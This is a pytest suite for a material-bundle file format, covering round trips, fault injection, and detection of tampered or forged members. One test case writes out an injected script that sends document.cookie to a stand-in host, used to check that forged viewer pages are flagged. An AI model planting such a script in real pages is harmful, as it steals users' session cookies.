"""Bundles come back bit for bit, survive faults, and notice every change."""

from __future__ import annotations

import contextlib
import dataclasses
import errno
import io
import itertools
import json
import math
import os
import shutil
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from hypothesis.extra.numpy import arrays

from engine.brdf.readers.table_file import keep_table
from engine.brdf.table import HalfDifferenceTable
from engine.bundle.bundle import open_bundle, save_bundle, verify_bundle
from engine.bundle.manifest import BRDF, DIRECTIONAL, MANIFEST, MASK, MEMBERS, PBR, SHADER, VIEWER
from engine.core.errors import InputError, OutputError
from engine.core.health import Finding, Health, Verdict
from engine.core.steps import drain
from engine.factor.hemisphere_map import HemisphereMap
from engine.factor.separable_factors import SeparableFactors
from engine.scene.material import Material
from engine.shading.directional.planes import fit
from engine.shading.power_law import PowerLawMap
from engine.shading.shading_map import ShadingMap
from engine.storage import archive, atomic, records, scratch, spilling
from engine.storage.records import TABLE
from tests.engine.brdf.readers.test_table_file import make_holed_table
from tests.engine.domes import dome

PLAIN = MEMBERS - DIRECTIONAL - {PBR, MASK, "power_law_exponent.png", "power_law_kept_tiles.exr", TABLE}
PNG = b"\x89PNG\r\n\x1a\nnot looked into"
#: Every such operation of saving fails in one round of a campaign.
ROUNDS = 12
TARGETS = pytest.mark.parametrize("name", ["woven.lightarc", "woven"], ids=["zip", "folder"])


@pytest.fixture(autouse=True)
def no_fault_stays() -> Iterator[None]:
    yield
    atomic.fault = None


def make_material(height: int = 5, width: int = 7, slices: int = 3, seed: int = 0, name: str = "woven") -> Material:
    random = np.random.default_rng(seed)
    colours = random.random((slices, height, width, 3), dtype=np.float32)
    health = Health({"clamped": 3.0, "condition": math.inf}, (Finding(Verdict.WARNING, "too dark", "a.tif"),))
    return Material(
        ShadingMap(colours, 1 / 3, random.random(slices), health, random.random((slices, height, width)) > 0.5, (1, 0)),
        PowerLawMap(
            scale=random.random((height, width, 3), dtype=np.float32),
            exponent=4 * random.random((height, width, 3), dtype=np.float32),
            r_max=1 / 3,
            rms=0.1 + 0.2,
            rms_per_channel=random.random(3),
            error_map=random.random((height, width), dtype=np.float32),
        ),
        elevation_deg=(10.0, 45.0, 80.0),
        name=name,
    )


def assert_same(one: Any, other: Any) -> None:
    """Equal in every field, arrays bit for bit."""
    assert type(one) is type(other)
    if isinstance(one, np.ndarray):
        assert (one.dtype, one.shape) == (other.dtype, other.shape)
        assert one.tobytes() == other.tobytes()
    elif isinstance(one, Health):
        assert one.findings == other.findings
        assert repr(dict(one.figures)) == repr(dict(other.figures))
    elif dataclasses.is_dataclass(one):
        for field in dataclasses.fields(one):
            assert_same(getattr(one, field.name), getattr(other, field.name))
    else:
        assert one == other


def save(path: Path, material: Material, **more: Any) -> Path:
    return drain(save_bundle(path, material, **more))


def names(folder: Path) -> list[str]:
    return sorted(entry.name for entry in folder.iterdir())


def members_of(path: Path) -> dict[str, bytes]:
    if path.is_dir():
        return {str(file.relative_to(path)): file.read_bytes() for file in path.rglob("*") if file.is_file()}
    with zipfile.ZipFile(path) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


def rewrite(path: Path, members: dict[str, bytes]) -> None:
    """Put other members in place of the bundle's, as another program would."""
    if path.is_dir():
        shutil.rmtree(path)
        for name, content in members.items():
            (path / name).parent.mkdir(parents=True, exist_ok=True)
            (path / name).write_bytes(content)
        return
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as packed:
        for name, content in members.items():
            packed.writestr(name, content)
    path.write_bytes(stream.getvalue())


@TARGETS
def test_a_bundle_restores_the_material(tmp_path: Path, name: str) -> None:
    material = make_material()
    path = save(tmp_path / name, material, provenance={"camera": "X"}, figures={"rms": 0.04}, preview=PNG)
    assert_same(open_bundle(path), material)
    verification = verify_bundle(path)
    assert verification.problems == ()
    assert set(verification.members) == PLAIN
    written = json.loads(members_of(path)[MANIFEST])
    assert (written["provenance"], written["figures"]) == ({"camera": "X"}, {"rms": 0.04})


@TARGETS
def test_factors_are_kept_as_a_table(tmp_path: Path, name: str) -> None:
    hemisphere_map = HemisphereMap("orthographic", 4)
    textures = np.full((1, *hemisphere_map.shape, 3), 0.5, np.float32)
    factors = SeparableFactors(hemisphere_map, "in-out", textures, textures, True, True, "quarter")
    again = open_bundle(save(tmp_path / name, dataclasses.replace(make_material(), measured=factors)))
    assert isinstance(again.measured, HalfDifferenceTable)
    assert again.measured.name == "quarter"
    np.testing.assert_allclose(again.measured.values, 0.25, rtol=1e-6)


@TARGETS
def test_a_measured_brdf_comes_back_bit_for_bit(tmp_path: Path, name: str) -> None:
    table = drain(keep_table(make_holed_table(np.float64)))
    material = dataclasses.replace(make_material(), measured=table)
    path = save(tmp_path / name, material)
    again = open_bundle(path)
    assert_same(again, material)
    assert again.reflectance is again.measured
    assert verify_bundle(path).problems == ()
    assert set(verify_bundle(path).members) == PLAIN | {TABLE}
    assert json.loads(members_of(path)[BRDF])["measured"]["file"] == TABLE
    contents = members_of(path)
    rewrite(path, contents | {TABLE: contents[TABLE][:-1] + b"?"})
    assert verify_bundle(path).problems == (f"{TABLE} is not as it was written.",)
    with pytest.raises(InputError, match="not as it was written"):
        open_bundle(path)


FLOATS = st.floats(0, float(np.finfo(np.float32).max), width=32)


@st.composite
def materials(draw: st.DrawFn) -> Material:
    height, width, slices = draw(st.tuples(st.integers(1, 6), st.integers(1, 6), st.integers(2, 4)))
    has_slices, has_law = draw(st.sampled_from([(True, False), (False, True), (True, True)]))

    def image(*shape: int) -> Any:
        return draw(arrays(np.float32, shape, elements=FLOATS))

    positive = st.floats(1e-300, 1e300)
    means = np.array(draw(st.lists(FLOATS, min_size=slices, max_size=slices)))
    shading_map = ShadingMap(image(slices, height, width, 3), draw(positive), means) if has_slices else None
    law = None
    if has_law:
        scale, exponent, errors = image(height, width, 3), image(height, width, 3), image(height, width)
        law = PowerLawMap(scale, exponent, draw(positive), 0.1, np.array([0.1, 0.2, 1 / 3]), errors)
    sigma = draw(st.none() | st.floats(1e-6, 1e6))
    brdf = draw(st.sampled_from(["lambert", "phong:exponent=3", "ggx:alpha=0.3", "blinn-phong"]))
    return Material(shading_map, law, brdf, sigma, (90.0,), draw(st.text(max_size=20)))


@settings(max_examples=15)
@given(material=materials(), packed=st.booleans())
def test_CO8_every_material_comes_back_bit_for_bit(
    material: Material, packed: bool, tmp_path_factory: pytest.TempPathFactory
) -> None:
    path = tmp_path_factory.mktemp("round") / ("woven.lightarc" if packed else "woven")
    save(path, material)
    assert_same(open_bundle(path), material)
    assert verify_bundle(path).problems == ()


def test_CO9_maps_are_exported_as_they_are(tmp_path: Path) -> None:
    import OpenEXR

    material = make_material()
    assert material.power_law is not None
    path = save(tmp_path / "woven", material)
    for member, expected in (("scale", material.power_law.scale), ("exponent", material.power_law.exponent)):
        channels = OpenEXR.File(str(path / f"power_law_{member}.exr"), separate_channels=True).channels()
        stored = np.stack([channels[channel].pixels for channel in "RGB"], axis=2)
        assert stored.tobytes() == expected.tobytes()


def test_the_same_material_gives_the_same_bytes(tmp_path: Path) -> None:
    first = save(tmp_path / "a.lightarc", make_material())
    second = save(tmp_path / "b.lightarc", make_material())
    assert first.read_bytes() == second.read_bytes()


@pytest.mark.parametrize("value", [np.nan, np.inf, -1.0])
@pytest.mark.parametrize("field", ["scale", "exponent", "error_map"])
def test_impossible_values_are_not_exported(tmp_path: Path, field: str, value: float) -> None:
    material = make_material()
    array = getattr(material.power_law, field).copy()
    array.flat[0] = value
    assert material.power_law is not None
    try:
        law = dataclasses.replace(material.power_law, **{field: array})
    except ValueError:
        return
    with pytest.raises(ValueError, match="negative or not finite"):
        save(tmp_path / "woven", dataclasses.replace(material, power_law=law))
    assert names(tmp_path) == []


@TARGETS
def test_every_change_of_every_member_is_noticed(tmp_path: Path, name: str) -> None:
    path = save(tmp_path / name, make_material(), preview=PNG)
    original = members_of(path)
    assert set(original) == PLAIN
    for member, content in original.items():
        for position in (0, len(content) // 2, len(content) - 2):
            changed = bytearray(content)
            changed[position] ^= 0x20
            rewrite(path, {**original, member: bytes(changed)})
            verification = verify_bundle(path)
            assert not verification.ok, (member, position)
            assert any(member in problem for problem in verification.problems)
            if member.endswith(".exr") or member == MANIFEST:
                with pytest.raises(InputError, match=member):
                    open_bundle(path)
        for content_now in (content[:-2], content + b"}"):
            rewrite(path, {**original, member: content_now})
            with contextlib.suppress(InputError):
                assert not verify_bundle(path).ok, member
        rewrite(path, {other: content for other, content in original.items() if other != member})
        with contextlib.suppress(InputError):
            assert not verify_bundle(path).ok, member
    rewrite(path, {**original, "power_law_scale.exr": original["power_law_exponent.exr"]})
    assert verify_bundle(path).problems == ("power_law_scale.exr is not as it was written.",)


def forge(path: Path, change: Callable[[dict[str, Any]], None], **members: bytes) -> None:
    """Change the manifest and members, with fingerprints and seal that fit: only their content can give them away."""
    import hashlib

    contents = {**members_of(path), **{name.replace("__", "."): content for name, content in members.items()}}
    value = json.loads(contents[MANIFEST])
    del value["manifest_sha256"]
    change(value)
    for name in value["members"]:
        value["members"][name] = {
            "sha256": hashlib.sha256(contents[name]).hexdigest(),
            "size_bytes": len(contents[name]),
        }
    contents[MANIFEST] = json.dumps({**value, "manifest_sha256": records.seal(value)}).encode()
    rewrite(path, contents)


def exr(channels: dict[str, Any]) -> bytes:
    from engine.images.encode import encode_exr

    return encode_exr(channels, half=False)


PLANE = np.ones((5, 7), np.float32)
FORGERIES: list[tuple[str, bytes]] = [
    ("negative", exr({"R": PLANE, "G": -PLANE, "B": PLANE})),
    ("not finite|NaN", exr({"R": PLANE, "G": PLANE * np.nan, "B": PLANE})),
    ("has 5 x 8 pixels", exr(dict.fromkeys("RGB", np.ones((5, 8), np.float32)))),
    ("other channels", exr(dict.fromkeys("RGBA", PLANE))),
    ("other channels", exr(dict.fromkeys("RG", PLANE))),
    ("damaged", b"v/1\1" + bytes(100)),
    ("damaged", exr(dict.fromkeys("RGB", PLANE))[:-9]),
    ("cannot be decoded|damaged", b"\x76\x2f\x31\x01" + os.urandom(300)),
]


@pytest.mark.parametrize(("problem", "content"), FORGERIES, ids=[f"{i} {f[0]}" for i, f in enumerate(FORGERIES)])
def test_fault_9_forged_pixels(tmp_path: Path, problem: str, content: bytes) -> None:
    path = save(tmp_path / "woven.lightarc", make_material())
    forge(path, lambda value: None, power_law_scale__exr=content)
    verification = verify_bundle(path)
    assert len(verification.problems) == 1
    assert any(word in verification.problems[0] for word in problem.split("|")), verification.problems


@pytest.mark.parametrize(
    "change",
    [
        lambda value: value["power_law"].update(height_px=1 << 20, width_px=1 << 20),
        lambda value: value["shading_map"].update(slices=4096),
        lambda value: value["shading_map"].update(mean_radiance=[1.0]),
        lambda value: value["shading_map"].update(clipped=False),
        lambda value: value.update(brdf="lambert"),
        lambda value: value["members"].pop("power_law_scale.exr"),
        lambda value: value["members"].update({"material.glb": {}}),
        lambda value: value.update(power_law=None, shading_map=None),
    ],
    ids=["huge", "slices", "means", "clipped", "brdf", "less", "more", "empty"],
)
def test_fault_9_forged_manifest(tmp_path: Path, change: Callable[[dict[str, Any]], None]) -> None:
    path = save(tmp_path / "woven.lightarc", make_material())
    with contextlib.suppress(KeyError):
        forge(path, change)
    if "material.glb" in str(change.__code__.co_consts):
        return
    assert not verify_bundle(path).ok


@pytest.mark.parametrize(
    ("maker", "words"),
    [
        ({}, "not what this program makes"),
        ({"lightarc": "0.0.9"}, "not what this program makes"),
        ({"maker": "0" * 16}, "by another build of version"),
        ({"maker": "0" * 16, "lightarc": "0.0.9"}, "by version '0.0.9'"),
        ({"maker": "", "lightarc": ""}, "by no version that is named"),
    ],
    ids=["this build", "this build as another version", "another build", "another version", "none"],
)
@pytest.mark.parametrize(
    ("member", "old", "new"),
    [
        (VIEWER, b"</body>", b"<script>fetch('https://example.org/' + document.cookie)</script></body>"),
        (VIEWER, b'"size": [7, 5]', b'"size": [8, 5]'),
        (VIEWER, b"iVBORw0KGgo", b"iVBORw0KGgp"),
        (SHADER, b"float", b"double"),
        (BRDF, b'"unit": "1/sr', b'"unit": "1/cd'),
    ],
)
def test_a_page_or_shader_of_somebody_else_is_named(
    tmp_path: Path, member: str, old: bytes, new: bytes, maker: dict[str, str], words: str
) -> None:
    """Spec 15, S5: fingerprints that were worked out again do not make a page sound."""
    path = save(tmp_path / "woven.lightarc", make_material())
    content = members_of(path)[member]
    assert old in content

    def change(value: dict[str, Any]) -> None:
        value["software"].update(maker)

    forge(path, change, **{member.replace(".", "__"): content.replace(old, new, 1)})
    verification = verify_bundle(path)
    assert verification.ok == ("maker" in maker)
    (sentence,) = (*verification.problems, *verification.unchecked)
    assert sentence.startswith(f"{member} ")
    assert words in sentence


def test_a_page_may_differ_in_last_digits_and_in_how_its_images_are_packed(tmp_path: Path) -> None:
    import base64
    import re

    import cv2

    path = save(tmp_path / "woven.lightarc", make_material())
    page = members_of(path)[VIEWER].decode()
    image = re.findall(r"iVBOR[A-Za-z0-9+/=]*", page)[0]
    pixels = cv2.imdecode(np.frombuffer(base64.b64decode(image), np.uint8), cv2.IMREAD_UNCHANGED)
    packed = cv2.imencode(".png", pixels, [cv2.IMWRITE_PNG_COMPRESSION, 0])[1].tobytes()
    other = page.replace(image, base64.b64encode(packed).decode(), 1).replace("0.3333333333", "0.3333333334", 1)
    assert other != page
    forge(path, lambda value: None, **{"viewer/index__html": other.encode()})
    assert verify_bundle(path).problems == ()


def test_fault_5_truncated_bundles(tmp_path: Path) -> None:
    whole = save(tmp_path / "woven.lightarc", make_material()).read_bytes()
    cut = tmp_path / "cut.lightarc"
    for part in range(64):
        cut.write_bytes(whole[: len(whole) * part // 64])
        for look in (open_bundle, verify_bundle):
            with pytest.raises(InputError):
                look(cut)


def test_foreign_things_are_never_replaced(tmp_path: Path) -> None:
    foreign = tmp_path / "web"
    foreign.mkdir()
    (foreign / "manifest.json").write_text('{"name": "a web application"}')
    (tmp_path / "notes.lightarc").write_text("notes")
    ours = save(tmp_path / "ours", make_material())
    (ours / "my notes.txt").touch()
    newer = save(tmp_path / "newer.lightarc", make_material())
    newer_manifest = members_of(newer)
    newer_manifest[MANIFEST] = newer_manifest[MANIFEST].replace(b'"schema_version": 1', b'"schema_version": 2')
    rewrite(newer, newer_manifest)
    for path in (foreign, tmp_path / "notes.lightarc", ours, newer, tmp_path / "absent" / "woven"):
        before = {file: file.read_bytes() for file in tmp_path.rglob("*") if file.is_file()}
        with pytest.raises(OutputError):
            save(path, make_material(seed=1))
        assert {file: file.read_bytes() for file in tmp_path.rglob("*") if file.is_file()} == before


@TARGETS
def test_an_older_bundle_is_replaced(tmp_path: Path, name: str) -> None:
    save(tmp_path / name, make_material(seed=1), preview=PNG)
    save(tmp_path / name, make_material(seed=2))
    assert_same(open_bundle(tmp_path / name), make_material(seed=2))
    assert names(tmp_path) == [name]


def test_more_than_a_bundle_may_hold_is_refused_when_writing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("engine.bundle.bundle.BUNDLE_LIMIT_BYTES", (16 << 20) + 1000)
    with pytest.raises(OutputError, match="larger than"):
        save(tmp_path / "woven.lightarc", make_material())
    assert names(tmp_path) == []
    assert archive.BUNDLE_LIMIT_BYTES == 64 << 30


@TARGETS
def test_fault_17_cancelled_at_every_step(tmp_path: Path, name: str) -> None:
    save(tmp_path / name, make_material(seed=1))
    for stop in itertools.count():
        work = save_bundle(tmp_path / name, make_material(seed=2))
        if len(list(itertools.islice(work, stop))) < stop:
            break
        work.close()
        assert names(tmp_path) == [name]
        assert_same(open_bundle(tmp_path / name), make_material(seed=1))
    assert stop >= len(PLAIN)
    assert_same(open_bundle(tmp_path / name), make_material(seed=2))


def small(seed: int) -> Material:
    return dataclasses.replace(make_material(1, 1, 2, seed), power_law=None)


def keep(path: Path) -> bool:
    """True if the bundle is sound and either the old or the new one."""
    shading_map = open_bundle(path).shading_map
    assert shading_map is not None
    known = {small(seed).shading_map.slices.tobytes() for seed in (1, 2)}  # type: ignore[union-attr]
    return verify_bundle(path).ok and shading_map.slices.tobytes() in known


@TARGETS
@pytest.mark.campaign(rounds=ROUNDS)
def test_fault_1_the_disk_is_full_at_every_operation_of_saving(tmp_path: Path, name: str, seed: int) -> None:
    path = save(tmp_path / name, small(1))
    for at in range(1 + seed % ROUNDS, 2000, ROUNDS):
        count = iter(range(1, 1_000_000))

        def fail(_operation: str, _path: Path, at: int = at, count: Iterator[int] = count) -> None:
            if next(count) == at:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

        atomic.fault = fail
        with contextlib.suppress(OutputError):
            save(path, small(2))
        atomic.fault = None
        atomic.remove_leftovers(tmp_path)
        assert names(tmp_path) == [name]
        assert at % 7 or keep(path)
        if next(count) <= at:
            assert keep(path)
            return
    pytest.fail("the loop never reached the end of the work")


@pytest.mark.skipif(not hasattr(os, "fork"), reason="the system cannot copy a process")
@TARGETS
@pytest.mark.campaign(rounds=ROUNDS)
def test_fault_2_death_at_every_operation_of_saving(tmp_path: Path, name: str, seed: int) -> None:
    path = save(tmp_path / name, small(1))
    for at in range(1 + seed % ROUNDS, 2000, ROUNDS):
        copy = os.fork()
        if not copy:
            count = iter(range(1, 1_000_000))
            atomic.fault = lambda _operation, _path, at=at, count=count: os._exit(9) if next(count) == at else None
            with contextlib.suppress(BaseException):
                save(path, small(2))
                os._exit(0)
            os._exit(1)
        code = os.waitstatus_to_exitcode(os.waitpid(copy, 0)[1])
        assert code in (0, 9)
        assert at % 7 or keep(path)
        atomic.remove_leftovers(tmp_path)
        assert names(tmp_path) == [name]
        if code == 0:
            assert keep(path)
            return
    pytest.fail("the loop never reached the end of the work")


@pytest.mark.parametrize("name", ["ä😀 „q“ 100%.lightarc", "new\nline", "x" * 246 + ".lightarc", "y" * 255], ids=ascii)
def test_fault_13_odd_names(tmp_path: Path, name: str) -> None:
    path = save(tmp_path / name, make_material(1, 1, 2))
    assert verify_bundle(path).ok
    assert names(tmp_path) == [name]


def test_fault_14_a_folder_that_may_not_be_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(os, "access", lambda path, mode: False)
    for name in ("woven", "woven.lightarc"):
        with pytest.raises(OutputError, match="not permitted"):
            save(tmp_path / name, make_material())
    assert names(tmp_path) == []


@pytest.mark.skipif(not spilling.is_possible(scratch.temporary_folder()), reason="arrays stay in memory on this system")
def test_a_limit_of_memory_changes_no_byte(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    stack = dome(height=16, width=24)

    def make(name: str) -> bytes:
        planes = drain(fit(stack, np.arange(len(stack.sources))))
        drain(save_bundle(tmp_path / name, Material(None, None, brdf="lambert:albedo=0.5", directional=planes)))
        return (tmp_path / name).read_bytes()

    plain = make("plain.lightarc")
    monkeypatch.setattr(spilling, "MIN_BYTES", 1 << 12)
    with spilling.spill_arrays(1 << 20):
        held = np.ones(1 << 14)
        assert spilling.count_spilled_bytes() >= held.nbytes
        assert make("limited.lightarc") == plain
